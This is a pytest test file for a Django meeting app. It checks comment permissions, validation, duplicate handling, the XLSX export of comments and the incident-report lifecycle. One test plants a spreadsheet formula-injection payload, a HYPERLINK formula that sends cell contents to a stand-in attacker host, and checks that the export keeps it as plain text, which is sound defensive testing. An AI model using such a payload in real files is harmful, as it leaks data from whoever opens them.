"""Comments (Điều 5.5) and incidents (Điều 6.4b-c): who may, bad input changes nothing, duplicate
taps store one comment, the compiled XLSX, the incident lifecycle and the Mẫu 01 note."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from live import contributions
from live.actions import contributions as contribution_actions
from live.actions import room as room_actions
from live.models import Comment, Incident, IncidentStatus
from meetings.tests.conftest import approved

pytestmark = pytest.mark.django_db


def test_attendees_comment_before_and_during_and_a_double_tap_stores_one(meeting, leader, attendee) -> None:
    item = meeting.agenda_items.get(order=1)
    first = contribution_actions.do_add_comment(attendee, meeting, text="Đề nghị bổ sung số liệu", agenda_item=item)
    again = contribution_actions.do_add_comment(attendee, meeting, text="Đề nghị bổ sung số liệu", agenda_item=item)
    assert first.pk == again.pk and Comment.objects.count() == 1
    room_actions.do_start_meeting(leader, meeting)
    contribution_actions.do_add_comment(attendee, meeting, text="Ý kiến chung")
    room_actions.do_end_meeting(leader, meeting)
    meeting.refresh_from_db()
    with pytest.raises((ValidationError, PermissionDenied)):
        contribution_actions.do_add_comment(attendee, meeting, text="Muộn rồi")
    assert Comment.objects.count() == 2


def test_outsiders_cannot_comment_and_bad_comments_change_nothing(
    meeting, organiser, leader, attendee, outsider
) -> None:
    with pytest.raises(PermissionDenied):
        contribution_actions.do_add_comment(outsider, meeting, text="Xin chào")
    other = approved(organiser, leader, [attendee])
    for kwargs in ({"text": ""}, {"text": "x" * 4001}, {"text": "ok", "agenda_item": other.agenda_items.first()}):
        with pytest.raises(ValidationError):
            contribution_actions.do_add_comment(attendee, meeting, **kwargs)
    assert not Comment.objects.exists()


def test_compiled_comments_export_cell_by_cell(client, meeting, organiser, attendee, colleague) -> None:
    item = meeting.agenda_items.get(order=2)
    contribution_actions.do_add_comment(attendee, meeting, text="Cần làm rõ tiến độ", agenda_item=item)
    contribution_actions.do_add_comment(colleague, meeting, text="Thống nhất")
    client.force_login(attendee)
    assert client.get(reverse("live:comments_xlsx", args=[meeting.pk])).status_code == 403
    client.force_login(organiser)
    response = client.get(reverse("live:comments_xlsx", args=[meeting.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert rows[0][0] == 1 and rows[0][1] == f"2. {item.title}" and rows[0][3] == attendee.display_name
    assert rows[0][6] == "Cần làm rõ tiến độ"
    assert rows[1][3] == colleague.display_name and rows[1][6] == "Thống nhất"
    assert "Cần làm rõ tiến độ" in client.get(reverse("live:comments", args=[meeting.pk])).content.decode()


def test_a_comment_written_as_a_formula_is_exported_as_text(client, meeting, organiser, attendee) -> None:
    planted = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
    contribution_actions.do_add_comment(attendee, meeting, text=planted)
    client.force_login(organiser)
    sheet = load_workbook(io.BytesIO(client.get(reverse("live:comments_xlsx", args=[meeting.pk])).content)).worksheets[
        0
    ]
    cell = sheet.cell(row=3, column=7)
    assert cell.value == planted and cell.data_type == "s"


def test_incident_lifecycle_needs_a_resolution_and_a_handler(meeting, organiser, attendee, outsider) -> None:
    incident = contribution_actions.do_report_incident(
        attendee, meeting, kind="audio", description="Micro số 3 không nghe"
    )
    with pytest.raises(PermissionDenied):
        contribution_actions.do_report_incident(outsider, meeting, kind="audio", description="x")
    with pytest.raises(ValidationError):
        contribution_actions.do_report_incident(attendee, meeting, kind="fire", description="x")
    with pytest.raises(PermissionDenied):
        contribution_actions.do_update_incident(attendee, incident, status=IncidentStatus.RESOLVED, resolution="Tự sửa")
    with pytest.raises(ValidationError):
        contribution_actions.do_update_incident(organiser, incident, status=IncidentStatus.RESOLVED)
    contribution_actions.do_update_incident(organiser, incident, status=IncidentStatus.HANDLING)
    done = contribution_actions.do_update_incident(
        organiser, incident, status=IncidentStatus.RESOLVED, resolution="Thay micro"
    )
    assert done.resolved_at is not None
    with pytest.raises(ValidationError):
        contribution_actions.do_update_incident(organiser, incident, status=IncidentStatus.OPEN)
    note = contributions.incident_notes(meeting)
    assert "Micro số 3 không nghe" in note and "Thay micro" in note
    assert Incident.objects.count() == 1


def test_incident_pages_are_for_handlers_only(client, meeting, organiser, attendee, outsider) -> None:
    client.force_login(outsider)
    assert client.get(reverse("live:incidents", args=[meeting.pk])).status_code == 404
    client.force_login(attendee)
    assert client.get(reverse("live:incidents", args=[meeting.pk])).status_code == 403
    response = client.post(
        reverse("live:incident_report", args=[meeting.pk]),
        {"kind": "network", "description": "Mất Wi-Fi"},
        HTTP_ACCEPT="application/json",
    )
    assert response.json() == {"ok": True}
    client.force_login(organiser)
    assert "Mất Wi-Fi" in client.get(reverse("live:incidents", args=[meeting.pk])).content.decode()
